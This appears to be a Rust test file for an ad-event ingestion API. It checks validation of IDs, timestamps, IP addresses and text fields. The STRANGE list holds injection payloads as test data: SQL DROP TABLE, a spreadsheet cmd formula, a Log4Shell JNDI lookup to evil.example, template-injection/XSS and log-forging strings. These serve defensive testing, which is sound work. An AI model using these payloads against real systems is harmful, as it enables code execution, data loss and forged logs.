//! Fields with values that break other systems.

use adtally_tests::until;
use serde_json::{Value, json};

use super::subject::{Subject, from_now};

/// An event with `field` set to `value`.
fn with(field: &str, value: impl Into<Value>) -> Vec<u8> {
    let mut event = json!({"ad_id": 1, "kind": "click"});
    event[field] = value.into();
    event.to_string().into_bytes()
}

#[test]
fn a_number_that_is_no_id_is_refused() {
    let mut subject = Subject::new("numbers");
    for ad in [
        "9223372036854775808",
        "18446744073709551616",
        "-1",
        "0",
        "-0",
        "1.0",
        "1e3",
        "1e308",
        "\"42\"",
        "null",
        "[]",
        "{}",
        "true",
        "\"\"",
    ] {
        let event = format!(r#"{{"ad_id": {ad}, "kind": "click"}}"#);
        subject.rejects(ad, event.as_bytes(), "invalid_ad_id");
    }
    subject.rejects(
        "1e400",
        br#"{"ad_id": 1e400, "kind": "click"}"#,
        "invalid_event",
    );
    subject.rejects("no ad", br#"{"kind": "click"}"#, "invalid_ad_id");
    for kind in [
        "null",
        "0",
        "1",
        "\"view\"",
        "\"Click\"",
        "\"\"",
        "[]",
        "\"click \"",
    ] {
        let event = format!(r#"{{"ad_id": 1, "kind": {kind}}}"#);
        subject.rejects(kind, event.as_bytes(), "invalid_kind");
    }
    subject.rejects("no kind", br#"{"ad_id": 1}"#, "invalid_kind");
    subject.takes(
        "the largest ad",
        br#"{"ad_id": 9223372036854775807, "kind": "click"}"#,
    );
    subject.stored_only_what_was_taken();
}

/// Texts that mean something elsewhere and nothing here.
const STRANGE: &[&str] = &[
    "'; DROP TABLE events; --",
    "%_\\",
    "\\N",
    "\\.",
    "a\\tb",
    "=cmd()|' /C calc'!A0",
    "@SUM(1+1)",
    "\u{202e}rtl\u{200b}\u{feff}",
    "👩‍👩‍👧 \u{10ffff}\u{fffe}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}<script>alert(1)</script>",
    "null",
    " ",
];

#[test]
fn a_text_is_refused_or_stored_to_the_byte() {
    let mut subject = Subject::new("texts");
    for (field, bound) in [
        ("visitor_id", 128),
        ("placement", 128),
        ("user_agent", 512),
        ("referer", 1_024),
    ] {
        let long = |length: usize| with(field, "x".repeat(length));
        subject.takes(&format!("{field} of {bound} bytes"), &long(bound));
        subject.rejects(
            &format!("{field} a byte longer"),
            &long(bound + 1),
            "too_long",
        );
        subject.rejects(&format!("{field} of 1 MB"), &long(1_000_000), "too_long");
        let wide = with(field, "ä".repeat(bound / 2) + "x");
        subject.rejects(&format!("{field} longer in bytes only"), &wide, "too_long");
        for control in [
            "a\u{0}b",
            "\u{1b}[31m",
            "\n{\"level\":\"error\"}",
            "\u{7f}",
            "\u{85}",
        ] {
            let what = format!("{field} with {control:?}");
            subject.rejects(&what, &with(field, control), "control_character");
        }
    }
    for text in STRANGE.iter().copied() {
        let id = subject.takes(text, &with("placement", text));
        let Some(id) = id.first() else { continue };
        let query = format!(
            "SELECT encode(convert_to(placement, 'UTF8'), 'hex') FROM events WHERE event_id = '{id}'"
        );
        let stored = until("it is stored", || {
            Some(subject.system.sql(&query).trim().to_owned()).filter(|hex| !hex.is_empty())
        });
        let sent: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
        subject.compare(text, stored, sent);
    }
    for log in [subject.system.api_process().log(), subject.worker.log()] {
        subject.compare("visitor data in a log", log.contains("DROP TABLE"), false);
        subject.compare(
            "a forged log line",
            log.contains("\"level\":\"error\""),
            false,
        );
    }
    subject.stored_only_what_was_taken();
}

#[test]
fn an_event_id_is_one_of_the_promised_kinds_or_refused() {
    let mut subject = Subject::new("event-ids");
    for id in [
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "9b2f8f0e-2c1d-4e6a-9d43-0c6f7a1b2c3d",
        "auction-7f3a/1",
        "019d3751-c8ff-7ad9-3ab3-b966420926c1",
        // UUIDv7 by their version, but of the years 10889 and 2660: digests look so by chance.
        "ffffffff-ffff-7fff-bfff-ffffffffffff",
        "13d37510-19d3-75c8-ad93-3ab3b9664209",
    ] {
        subject.rejects(id, &with("event_id", id), "occurred_at_required");
    }
    subject.rejects("empty", &with("event_id", ""), "invalid_event_id");
    subject.rejects("a number", &with("event_id", 7), "invalid_event_id");
    subject.rejects(
        "an object",
        &with("event_id", json!({"id": 1})),
        "invalid_event_id",
    );
    subject.rejects("too long", &with("event_id", "x".repeat(129)), "too_long");
    subject.rejects("NUL", &with("event_id", "a\u{0}"), "control_character");
    for id in [
        "019d3751-c8ff-7ad9-bab3-b966420926c1",
        "{019d3751-c8ff-7ad9-bab3-b966420926c1}",
        "urn:uuid:019d3751-c8ff-7ad9-bab3-b966420926c1",
    ] {
        subject.rejects(id, &with("event_id", id), "too_old");
    }
    let mut two_times = json!({"ad_id": 1, "kind": "click", "occurred_at": from_now(-60)});
    two_times["event_id"] = json!("019d3751-c8ff-7ad9-bab3-b966420926c1");
    let two_times = two_times.to_string();
    let first = subject.takes("two times", two_times.as_bytes());
    let again = subject.takes("two times, again", two_times.as_bytes());
    subject.compare("the id of a retry", again, first);
    for id in [json!("auction-1"), json!(7), json!("")] {
        subject.rejects(
            "an impression",
            &with("impression_id", id),
            "invalid_impression_id",
        );
    }
    subject.stored_only_what_was_taken();
}

#[test]
fn every_spelling_of_a_uuid_is_the_same_event() {
    let mut subject = Subject::new("spellings");
    let at = from_now(-60);
    let mut named = json!({"ad_id": 1, "kind": "click", "occurred_at": at});
    let mut ids = Vec::new();
    for spelling in [
        "9b2f8f0e-2c1d-4e6a-9d43-0c6f7a1b2c3d",
        "9B2F8F0E-2C1D-4E6A-9D43-0C6F7A1B2C3D",
        "{9b2f8f0e-2c1d-4e6a-9d43-0c6f7a1b2c3d}",
        "urn:uuid:9b2f8f0e-2c1d-4e6a-9d43-0c6f7a1b2c3d",
    ] {
        named["event_id"] = json!(spelling);
        ids.extend(subject.takes(spelling, named.to_string().as_bytes()));
    }
    ids.dedup();
    subject.compare("ids of four spellings", ids.len(), 1);
    named["event_id"] = json!("00000000-0000-0000-0000-000000000000");
    subject.takes("the nil UUID with a time", named.to_string().as_bytes());
    subject.stored_only_what_was_taken();
}

/// Times that no event can have, and the reason.
const NO_TIMES: [(&str, &str); 15] = [
    ("1969-12-31T23:59:59.999Z", "invalid_occurred_at"),
    ("10000-01-01T00:00:00Z", "invalid_occurred_at"),
    ("2026-11-22T05:00:00", "invalid_occurred_at"),
    ("2026-11-22", "invalid_occurred_at"),
    ("22.11.2026 05:00", "invalid_occurred_at"),
    ("2026-02-30T00:00:00Z", "invalid_occurred_at"),
    ("2026-11-22T24:00:00Z", "invalid_occurred_at"),
    ("2026-11-22T05:00:61Z", "invalid_occurred_at"),
    ("2026-11-22T05:00:00+24:00", "invalid_occurred_at"),
    ("1766400000", "invalid_occurred_at"),
    ("now", "invalid_occurred_at"),
    ("", "invalid_occurred_at"),
    ("1970-01-01T00:00:00Z", "too_old"),
    ("2016-12-31T23:59:60Z", "too_old"),
    ("9999-12-31T23:59:59.999Z", "in_future"),
];

#[test]
fn a_time_is_within_the_bounds_or_refused_but_never_moved() {
    let mut subject = Subject::new("times");
    for (time, code) in NO_TIMES {
        subject.rejects(time, &with("occurred_at", time), code);
    }
    subject.rejects(
        "a number",
        &with("occurred_at", 1_766_400_000),
        "invalid_occurred_at",
    );
    let day = 86_400;
    for (what, seconds, code) in [
        ("an hour ahead", 3_600, "in_future"),
        ("six minutes ahead", 360, "in_future"),
        ("forty days late", -40 * day, "too_old"),
        ("36 days late", -36 * day, "too_old"),
    ] {
        subject.rejects(what, &with("occurred_at", from_now(seconds)), code);
    }
    subject.takes("four minutes ahead", &with("occurred_at", from_now(240)));
    subject.takes("34 days late", &with("occurred_at", from_now(-34 * day)));
    let zulu = from_now(-7_200);
    for offset in ["+14:00", "-12:00"] {
        let local = chrono::DateTime::parse_from_rfc3339(&zulu).unwrap();
        let local = local.with_timezone(&offset.parse::<chrono::FixedOffset>().unwrap());
        subject.takes(offset, &with("occurred_at", local.to_rfc3339()));
    }

    let midnight = &from_now(-2 * day)[..10].to_owned();
    let eve = &from_now(-3 * day)[..10].to_owned();
    let last = with("occurred_at", format!("{eve}T23:59:59.999999Z"));
    let first = with("occurred_at", format!("{midnight}T00:00:00Z"));
    let last = subject.takes("the last microsecond of a day", &last);
    let first = subject.takes("the first of the next", &first);
    let both = format!(
        "SELECT tableoid::regclass FROM events WHERE event_id IN ('{}', '{}') ORDER BY event_id",
        last[0], first[0]
    );
    let partition = |day: &str| format!("events_{}", day.replace('-', ""));
    let stored = until("both are stored", || {
        let stored = subject.system.sql(&both);
        (stored.lines().count() == 2).then_some(stored)
    });
    let promised = format!("{}\n{}", partition(eve), partition(midnight));
    subject.compare("their partitions", stored.trim(), promised.as_str());
    subject.stored_only_what_was_taken();
}

#[test]
fn an_address_is_one_or_is_refused_and_is_never_stored_whole() {
    let mut subject = Subject::new("addresses");
    for ip in [
        "fe80::1%eth0",
        "999.1.1.1",
        "1.2.3",
        "0x7f000001",
        "203.0.113.9:80",
        "localhost",
        "",
        "203.0.113.9/32",
        "010.1.1.1",
    ] {
        subject.rejects(ip, &with("ip", ip), "invalid_ip");
    }
    subject.rejects("a number", &with("ip", 2_130_706_433), "invalid_ip");
    for (ip, cut) in [
        ("203.0.113.9", "203.0.113.0"),
        ("::ffff:203.0.113.9", "203.0.113.0"),
        ("2001:db8:1:2:3:4:5:6", "2001:db8:1::"),
        ("::", "::"),
    ] {
        let id = subject.takes(ip, &with("ip", ip));
        let query = format!("SELECT ip FROM events WHERE event_id = '{}'", id[0]);
        let stored = until("it is stored", || {
            Some(subject.system.sql(&query).trim().to_owned()).filter(|ip| !ip.is_empty())
        });
        subject.compare(ip, stored.as_str(), cut);
    }
    subject.stored_only_what_was_taken();
}
